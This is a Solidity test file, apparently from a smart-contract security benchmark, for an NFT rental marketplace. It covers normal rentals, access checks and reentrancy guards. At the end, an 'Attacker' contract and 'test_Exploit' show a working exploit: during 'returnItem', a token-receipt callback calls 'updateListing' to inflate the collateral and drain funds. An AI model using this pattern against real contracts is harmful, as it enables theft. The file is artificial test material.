// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./RentalMarket.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {ERC721} from "@openzeppelin/contracts@5.4.0/token/ERC721/ERC721.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts@5.4.0/utils/ReentrancyGuard.sol";

// assay-canary-fcf6e8d7-cc2f-4d9b-8a4b-b6a608474894

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Money is ERC20("Money", "MON") {
    address private _maker = msg.sender;

    function mint(address account, uint256 amount) external {
        require(msg.sender == _maker, "Money: not the maker");
        _mint(account, amount);
    }
}

contract Items is ERC721("Items", "ITM") {
    address private _maker = msg.sender;

    function mint(address account, uint256 tokenId) external {
        require(msg.sender == _maker, "Items: not the maker");
        _mint(account, tokenId);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant TREASURY = address(0x7EA);
    uint256 private constant START = 1_700_000_000;

    Money public money;
    Items private items;
    RentalMarket private market;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        money = new Money();
        items = new Items();
        market = new RentalMarket(money, address(this), TREASURY, 500);
        market.grantRole(market.MANAGER_ROLE(), address(this));
        market.grantRole(market.PAUSER_ROLE(), address(this));
        market.setCollection(address(items), true);
        items.mint(ANA, 1);
        items.mint(ANA, 2);
        vm.startPrank(ANA);
        items.setApprovalForAll(address(market), true);
        market.list(address(items), 1, 10e18, 4_000e18, 100);
        market.list(address(items), 2, 10e18, 1_000e18, 100);
        vm.stopPrank();
        fill(BEN);
        fill(CAT);
        vm.prank(BEN);
        market.rent(0, 30, 4_300e18);
        mallory = new Attacker(market, money, items);
        money.mint(address(mallory), 10);
        items.mint(address(mallory), 3);
    }

    function fill(address account) private {
        money.mint(account, 5_000e18);
        vm.startPrank(account);
        money.approve(address(market), 5_000e18);
        items.setApprovalForAll(address(market), true);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(items.ownerOf(1) == BEN && market.earningsOf(ANA) == 285e18, "rented");
        require(market.earningsOf(TREASURY) == 15e18 && market.token() == money, "fee");
        vm.startPrank(BEN);
        market.extendRental(0, 10);
        vm.warp(START + 41 days + 1);
        require(market.lateFeeOf(0) == 20e18, "two days late");
        market.returnItem(0);
        require(money.balanceOf(BEN) == 4_580e18 && items.ownerOf(1) == address(market), "returned");
        vm.stopPrank();
        vm.startPrank(ANA);
        market.updateListing(0, 20e18, 2_000e18);
        market.unlist(0);
        require(items.ownerOf(1) == ANA, "unlisted");
        vm.stopPrank();
        vm.prank(CAT);
        market.rent(1, 1, 1_010e18);
        require(market.getListing(1).renter == CAT, "rented too");
        vm.warp(START + 46 days);
        vm.startPrank(ANA);
        market.claimCollateral(1);
        market.withdrawEarnings();
        require(money.balanceOf(ANA) == 285e18 + 95e18 + 20e18 + 9.5e18 + 1_000e18, "earned");
        vm.stopPrank();
        market.setFeeRate(1_000);
        market.pause();
        market.unpause();
        market.setCollection(address(items), false);
        require(!market.isSupported(address(items)) && market.feeRate() == 1_000, "settings");
        market.revokeRole(market.PAUSER_ROLE(), address(this));
        market.renounceRole(market.MANAGER_ROLE(), address(this));
    }

    function test_RefusesSetups() public {
        vm.expectRevert("RentalSettings: no admin");
        new RentalMarket(money, address(0), TREASURY, 500);
        vm.expectRevert("RentalMarket: no treasury");
        new RentalMarket(money, address(this), address(0), 500);
        vm.expectRevert("EarningsLedger: no token");
        new RentalMarket(IERC20(address(0)), address(this), TREASURY, 500);
        vm.expectRevert("RentalSettings: fee rate too high");
        new RentalMarket(money, address(this), TREASURY, 1_001);
        vm.expectRevert("RentalSettings: fee rate too high");
        market.setFeeRate(1_001);
    }

    function test_RefusesStrangers() public {
        bytes memory manager = refusal(market.MANAGER_ROLE());
        bytes memory pauser = refusal(market.PAUSER_ROLE());
        vm.startPrank(BEN);
        vm.expectRevert(manager);
        market.setFeeRate(1);
        vm.expectRevert(manager);
        market.setCollection(BEN, true);
        vm.expectRevert(pauser);
        market.pause();
        vm.expectRevert(pauser);
        market.unpause();
        vm.expectRevert("RentalMarket: not the owner");
        market.updateListing(1, 1, 1);
        vm.expectRevert("RentalMarket: not the owner");
        market.unlist(1);
        vm.expectRevert("EarningsLedger: nothing earned");
        market.withdrawEarnings();
        vm.stopPrank();
        vm.startPrank(CAT);
        vm.expectRevert("RentalMarket: not the renter");
        market.extendRental(0, 1);
        vm.expectRevert("RentalMarket: not the renter");
        market.returnItem(0);
        vm.warp(START + 34 days);
        vm.expectRevert("RentalMarket: not the owner");
        market.claimCollateral(0);
        vm.stopPrank();
    }

    function refusal(bytes32 role) private pure returns (bytes memory) {
        return abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, BEN, role);
    }

    function test_RefusesOwners() public {
        items.mint(ANA, 4);
        vm.startPrank(ANA);
        vm.expectRevert("RentalMarket: collection not supported");
        market.list(address(money), 4, 1, 1, 1);
        vm.expectRevert("RentalMarket: wrong length");
        market.list(address(items), 4, 1, 1, 0);
        vm.expectRevert("RentalMarket: wrong length");
        market.list(address(items), 4, 1, 1, 366);
        vm.expectRevert("RentalMarket: no fee");
        market.list(address(items), 4, 0, 1, 1);
        vm.expectRevert("RentalMarket: no collateral");
        market.updateListing(1, 1, 0);
        vm.expectRevert("RentalMarket: wrong state");
        market.updateListing(0, 1, 1);
        vm.expectRevert("RentalMarket: wrong state");
        market.unlist(0);
        vm.expectRevert("RentalMarket: wrong state");
        market.claimCollateral(1);
        vm.warp(START + 33 days);
        vm.expectRevert("RentalMarket: not overdue");
        market.claimCollateral(0);
        vm.stopPrank();
    }

    function test_RefusesRenters() public {
        vm.startPrank(CAT);
        vm.expectRevert("RentalMarket: wrong state");
        market.rent(0, 1, 5_000e18);
        vm.expectRevert("RentalMarket: wrong length");
        market.rent(1, 0, 5_000e18);
        vm.expectRevert("RentalMarket: wrong length");
        market.rent(1, 101, 5_000e18);
        vm.expectRevert("RentalMarket: too expensive");
        market.rent(1, 1, 1_010e18 - 1);
        vm.expectRevert("RentalMarket: wrong state");
        market.lateFeeOf(1);
        vm.stopPrank();
        vm.startPrank(BEN);
        vm.expectRevert("RentalMarket: wrong length");
        market.extendRental(0, 0);
        vm.expectRevert("RentalMarket: wrong length");
        market.extendRental(0, 71);
        vm.warp(START + 30 days + 1);
        vm.expectRevert("RentalMarket: overdue");
        market.extendRental(0, 1);
        vm.stopPrank();
    }

    function test_RefusesClosedRentals() public {
        vm.warp(START + 33 days + 1);
        vm.prank(ANA);
        market.claimCollateral(0);
        vm.startPrank(BEN);
        vm.expectRevert("RentalMarket: wrong state");
        market.returnItem(0);
        vm.expectRevert("RentalMarket: wrong state");
        market.extendRental(0, 1);
        vm.stopPrank();
    }

    function test_RefusesWhilePaused() public {
        market.pause();
        vm.prank(ANA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        market.list(address(items), 9, 1, 1, 1);
        vm.startPrank(BEN);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        market.rent(1, 1, 5_000e18);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        market.extendRental(0, 1);
        vm.stopPrank();
    }

    function test_RefusesReentry() public {
        Nested nested = new Nested(market, items);
        money.mint(address(nested), 2_000e18);
        items.mint(address(nested), 4);
        nested.run(money);
        require(nested.refusals() == 6, "locked");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) >= 4_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

// Comes back while an item is handed out.
contract Nested {
    RentalMarket private _market;
    Items private _items;
    uint256 private _listingId;
    bool private _inside;
    uint256 public refusals;

    constructor(RentalMarket market, Items items) {
        _market = market;
        _items = items;
    }

    function run(Money money) external {
        _items.setApprovalForAll(address(_market), true);
        _listingId = _market.list(address(_items), 4, 1, 1, 1);
        money.approve(address(_market), 2_000e18);
        _market.rent(1, 1, 2_000e18);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (_inside) return this.onERC721Received.selector;
        _inside = true;
        try _market.list(address(_items), 2, 1, 1, 1) {} catch (bytes memory reason) {
            _note(reason);
        }
        try _market.rent(0, 1, 1) {} catch (bytes memory reason) {
            _note(reason);
        }
        try _market.extendRental(1, 1) {} catch (bytes memory reason) {
            _note(reason);
        }
        try _market.returnItem(1) {} catch (bytes memory reason) {
            _note(reason);
        }
        try _market.unlist(_listingId) {} catch (bytes memory reason) {
            _note(reason);
        }
        try _market.withdrawEarnings() {} catch (bytes memory reason) {
            _note(reason);
        }
        return this.onERC721Received.selector;
    }

    function _note(bytes memory reason) private {
        if (bytes4(reason) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector) refusals++;
    }
}

contract Attacker {
    RentalMarket private _market;
    Money private _money;
    Items private _items;
    uint256 private _listingId;

    constructor(RentalMarket market, Money money, Items items) {
        _market = market;
        _money = money;
        _items = items;
    }

    function run() external {
        _items.setApprovalForAll(address(_market), true);
        _money.approve(address(_market), 10);
        _listingId = _market.list(address(_items), 3, 1, 1, 1);
        _market.rent(_listingId, 1, 2);
        _market.returnItem(_listingId);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        _market.updateListing(_listingId, 1, 4_000e18);
        return this.onERC721Received.selector;
    }
}
